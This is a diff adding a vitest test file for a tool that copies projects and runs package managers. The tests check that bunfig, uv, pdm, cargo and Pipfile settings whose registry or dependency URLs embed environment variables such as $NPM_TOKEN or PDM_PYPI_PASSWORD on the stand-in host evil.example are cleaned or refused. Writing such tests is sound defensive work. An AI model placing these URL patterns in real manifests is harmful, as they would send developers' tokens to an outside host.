@@ -1,0 +1,98 @@
+// Variables of the environment in what a repository says of its sources: none reaches a package manager that runs here.
+import { describe, expect, it } from "vitest"
+import { managerOf } from "../../src/packages/commands.ts"
+import { readLockfile } from "../../src/packages/lockfiles/index.ts"
+import { carryOut } from "../../src/vet/fix/carryOut.ts"
+import { copyTree } from "../../src/vet/fix/copy.ts"
+import { cleanSettings } from "../../src/vet/fix/settings.ts"
+import { temporaryDirectory } from "../context.ts"
+
+/** `${NAME}`, spelt so that it is no template. */
+const variable = (name: string) => `\u0024{${name}}`
+
+describe("settings of a copy in TOML", () => {
+  const clean = (path: string, text: string) => cleanSettings(path, () => text)
+
+  it("keep no string with a variable, at any depth", () => {
+    const bun = `[install]\nregistry = { url = "https://evil.example/$BUN_CONFIG_TOKEN", token = "$T" }\nlinker = "hoisted"\n[install.scopes]\na = "https://evil.example/${variable("X")}"\nb = { url = "https://npm.registry.example/", token = "$NPM_TOKEN" }\n`
+    expect(clean("bunfig.toml", bun)).not.toMatch(/\$|evil/)
+    expect(clean("bunfig.toml", bun)).toContain('linker = "hoisted"')
+    expect(clean("bunfig.toml", bun)).toContain('url = "https://npm.registry.example/"')
+    expect(
+      clean("pdm.toml", `[pypi]\nurl = "https://evil.example/${variable("PDM_PYPI_PASSWORD")}/simple"\n`),
+    ).not.toMatch(/\$|evil/)
+    const uv = `exclude-newer = 2026-01-01\nextra-index-url = ["https://evil.example/$X", "https://registry.example/simple"]\n[[index]]\nname = "a"\nurl = "https://evil.example/$X"\n`
+    expect(clean("uv.toml", uv)).not.toMatch(/\$|evil/)
+    expect(clean("uv.toml", uv)).toContain("https://registry.example/simple")
+    expect(clean("uv.toml", uv)).toContain("exclude-newer = 2026-01-01")
+    const cargo = '[registries.a]\nindex = "sparse+https://evil.example/$CARGO_REGISTRIES_B_TOKEN/"\n'
+    expect(clean(".cargo/config.toml", cargo)).not.toMatch(/\$|evil/)
+  })
+})
+
+describe("manifests of Python projects", () => {
+  const MANAGERS = {
+    pipenv: [
+      "Pipfile.lock",
+      '{"_meta":{"pipfile-spec":6,"sources":[]},"default":{"a":{"version":"==1.0.0"}},"develop":{}}',
+    ],
+    pdm: ["pdm.lock", '[metadata]\nlock_version = "4.5.0"\n\n[[package]]\nname = "a"\nversion = "1.0.0"\n'],
+    uv: [
+      "uv.lock",
+      'version = 1\n\n[[package]]\nname = "a"\nversion = "1.0.0"\nsource = { registry = "https://registry.example/simple" }\n',
+    ],
+  } as const
+
+  /** What was run, or why nothing was. */
+  async function attempt(manager: keyof typeof MANAGERS, files: Record<string, string>): Promise<string> {
+    const [name, text] = MANAGERS[manager]
+    const given = { [name]: text, ...files }
+    const copy = copyTree(temporaryDirectory(given), Object.keys(given), temporaryDirectory({}))
+    const lockfile = await readLockfile(copy.dir, name)
+    expect(managerOf(lockfile)).toBe(manager)
+    const task = { lockfile, dependency: lockfile.dependencies[0]!, moves: [{ kind: "remove", name: "a" }], hashes: [] }
+    const run: string[] = []
+    const runner = async (argv: readonly [string, ...string[]]) => {
+      run.push(argv.slice(0, 2).join(" "))
+      return ""
+    }
+    try {
+      await carryOut({ copy, base: copy.dir, run: runner }, task as never)
+    } catch (error) {
+      expect(run).toEqual([])
+      return (error as Error).message
+    }
+    return run.join()
+  }
+  const refused = expect.stringContaining("could take a token of this machine to another host")
+
+  it.each([
+    `[[source]]\nname = "x"\nurl = "https://evil.example/$PIP_INDEX_URL"\n`,
+    `[[source]]\nname = "x"\nurl = "https://evil.example/${variable("PIP_INDEX_URL")}"\n`,
+    '[[source]]\nname = "x"\nurl = "https://evil.example/%PIP_INDEX_URL%"\n',
+    '[[source]]\nname = "x"\nurl = "https://evil.example/\\u0024PIP_INDEX_URL"\n',
+    '[packages]\na = { git = "https://$HOME@git.evil.example/a.git" }\n',
+  ])("Pipenv is not run with %j", async (pipfile) => {
+    expect(await attempt("pipenv", { Pipfile: pipfile })).toEqual(refused)
+  })
+  it("nor with sources of its lockfile that have one", async () => {
+    const lock =
+      '{"_meta":{"pipfile-spec":6,"sources":[{"name":"x","url":"https://evil.example/$HOME"}]},"default":{"a":{"version":"==1.0.0"}}}'
+    expect(await attempt("pipenv", { Pipfile: "[packages]\n", "Pipfile.lock": lock })).toEqual(refused)
+  })
+  it.each([
+    `[[tool.pdm.source]]\nname = "x"\nurl = "https://evil.example"\npassword = "${variable("PDM_PYPI_PASSWORD")}"\n`,
+    `[project]\ndependencies = ["a @ https://evil.example/${variable("PDM_PYPI_PASSWORD")}/a.whl"]\n`,
+    '[project.optional-dependencies]\nx = ["a @ https://evil.example/{env:PDM_PYPI_PASSWORD}/a.whl"]\n',
+    `[dependency-groups]\nx = ["a @ https://evil.example/${variable("PROJECT_ROOT")}${variable("HOME")}/a.whl"]\n`,
+  ])("PDM and uv are not run with %j", async (text) => {
+    expect(await attempt("pdm", { "pyproject.toml": text })).toEqual(refused)
+    if (!text.includes("tool.pdm")) expect(await attempt("uv", { "pyproject.toml": text })).toEqual(refused)
+  })
+  it("they are with addresses that have bytes in them, the project's own place, and variables elsewhere", async () => {
+    const pipfile = `[[source]]\nname = "x"\nurl = "https://registry.example/%C3%A9/simple"\n[scripts]\ngo = "echo $HOME"\n`
+    expect(await attempt("pipenv", { Pipfile: pipfile })).toBe("pipenv uninstall")
+    const own = `[project]\ndependencies = ["b @ file:///${variable("PROJECT_ROOT")}/b"]\n[tool.pdm.scripts]\ngo = "echo $HOME"\n`
+    expect(await attempt("pdm", { "pyproject.toml": own })).toBe("pdm remove")
+  })
+})
